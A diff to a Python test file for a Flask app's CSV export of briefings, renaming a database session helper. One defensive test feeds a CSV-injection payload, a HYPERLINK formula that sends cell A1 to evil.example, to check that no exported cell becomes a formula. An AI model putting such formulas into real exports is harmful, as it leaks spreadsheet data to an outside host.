@@ -48,7 +48,7 @@ def test_the_csv_has_a_row_for_each_citation_and_each_point_without_one(
 def test_the_csv_of_all_briefings_holds_them_all(
     client: FlaskClient, stored: Collection, briefing: Briefing
 ) -> None:
-    with stored.session() as session:
+    with stored.writing() as session:
         session.add(
             Briefing(
                 id="c2briefing00", title="Another", origin="file:///b.txt", format="txt",
@@ -63,7 +63,7 @@ def test_the_csv_of_all_briefings_holds_them_all(
 
 def test_no_cell_is_a_formula(client: FlaskClient, stored: Collection, briefing: Briefing) -> None:
     hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
-    with stored.session() as session:
+    with stored.writing() as session:
         point = session.get_one(Briefing, briefing.id).points[0]
         point.text, point.heading = hostile, "@SUM(A1)"
     row = rows(client, f"/briefings/{briefing.id}.csv")[0]
